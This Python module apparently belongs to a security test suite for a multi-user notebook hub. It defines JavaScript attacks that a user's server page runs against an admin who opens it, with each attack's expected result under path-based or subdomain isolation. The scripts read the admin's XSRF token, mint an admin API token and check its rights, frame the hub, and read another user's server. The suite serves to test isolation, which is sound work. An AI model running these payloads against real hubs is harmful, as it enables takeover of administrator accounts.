"""What a page of one user's server tries against whoever opens it: JavaScript, and what came of it.

Each is tried on a page of ``ada``'s server that ``root``, an admin, has opened. ``HUB`` is the hub's address, ``OTHER``
that of somebody else's server.
"""

from __future__ import annotations

from dataclasses import dataclass

TOKEN_PAGE = """
(async () => {
  const page = await (await fetch(HUB + "/hub/token", {credentials: "include"})).text();
  const found = page.match(/xsrf_token: "([^"]+)"/);
  return found && page.includes('user: "root"') ? "read as root" : "not read";
})()
"""
POPUP = """
(async () => {
  const w = window.open(HUB + "/hub/token");
  try {
    for (let n = 0; n < 300; n++) {
      await new Promise((done) => setTimeout(done, 100));
      if (w.closed) return "no hold of it";
      if (w.location.href !== "about:blank" && w.jhdata && w.jhdata.xsrf_token) return "read as " + w.jhdata.user;
    }
    return "nothing";
  } catch (e) {
    if (e.name === "SecurityError") return "no hold of it";
    throw e;
  } finally { try { w.close(); } catch (e) {} }
})()
"""
MINT = """
(async () => {
  let xsrf = "";
  try {
    const page = await (await fetch(HUB + "/hub/token", {credentials: "include"})).text();
    xsrf = (page.match(/xsrf_token: "([^"]+)"/) || ["", ""])[1];
  } catch (e) {}
  const answer = await fetch(HUB + "/hub/api/users/root/tokens?_xsrf=" + xsrf, {
    method: "POST", credentials: "include", body: JSON.stringify({note: "taken"}),
    headers: {"Content-Type": "application/json"},
  });
  const made = await answer.json();
  if (!made.token) return "none: " + answer.status;
  const me = await (await fetch(HUB + "/hub/api/user", {headers: {Authorization: "token " + made.token}})).json();
  return "a token of " + me.name + (me.admin ? ", an admin" : "");
})()
"""
BLIND = """
fetch(HUB + "/hub/api/users/root/tokens", {
  method: "POST", mode: "no-cors", credentials: "include", body: JSON.stringify({note: "blind"}),
}).then((answer) => "sent: " + answer.type)
"""
FRAME = """
(async () => {
  const frame = document.createElement("iframe");
  frame.src = HUB + "/hub/home";
  await new Promise((done) => { frame.onload = frame.onerror = done; document.body.append(frame); });
  let text = "";
  try { text = frame.contentDocument.body.innerText; } catch (e) {}
  return text.includes("root") ? "shown" : "not shown";
})()
"""
NEIGHBOUR = """fetch(OTHER, {credentials: "include"}).then((answer) => answer.text()).then((text) => text.includes(
"a page of bela") ? "read" : "not read")"""
COOKIE = """
(async () => {
  const w = window.open(HUB + "/hub/token");
  try {
    for (let n = 0; n < 300; n++) {
      await new Promise((done) => setTimeout(done, 100));
      if (w.closed) return "no hold of it";
      if (w.location.href !== "about:blank" && w.jhdata && w.jhdata.xsrf_token) {
        // a cookie that is planted there shows that this is a look at the hub's
        w.document.cookie = "probe=1; path=/hub/";
        const found = w.document.cookie;
        w.document.cookie = "probe=; path=/hub/; max-age=0";
        if (!found.includes("probe=1")) return "no look at it";
        return found.includes("_xsrf=") ? "read" : "not read";
      }
    }
    return "nothing";
  } catch (e) {
    if (e.name === "SecurityError") return "no hold of it";
    throw e;
  } finally { try { w.close(); } catch (e) {} }
})()
"""


@dataclass(frozen=True)
class Attack:
    """What is tried, and what comes of it where servers share the hub's name (``path``) or have their own."""

    name: str
    script: str
    path: str
    subdomain: str


BLOCKED = "error: TypeError: Failed to fetch"
ATTACKS = (
    Attack("reads the hub's page of tokens", TOKEN_PAGE, "read as root", BLOCKED),
    Attack("opens that page in a window and looks into it", POPUP, "read as root", "no hold of it"),
    Attack("makes itself a token of the admin's", MINT, "a token of root, an admin", BLOCKED),
    Attack("reads the cookie of the hub's forms", COOKIE, "not read", "no hold of it"),
    Attack("shows the hub in a frame, to be clicked", FRAME, "not shown", "not shown"),
    Attack("reads from another user's server", NEIGHBOUR, "read", BLOCKED),
)


def on(script: str, hub: str, other: str) -> str:
    """The script with its addresses."""
    return script.replace("HUB", repr(hub)).replace("OTHER", repr(other))
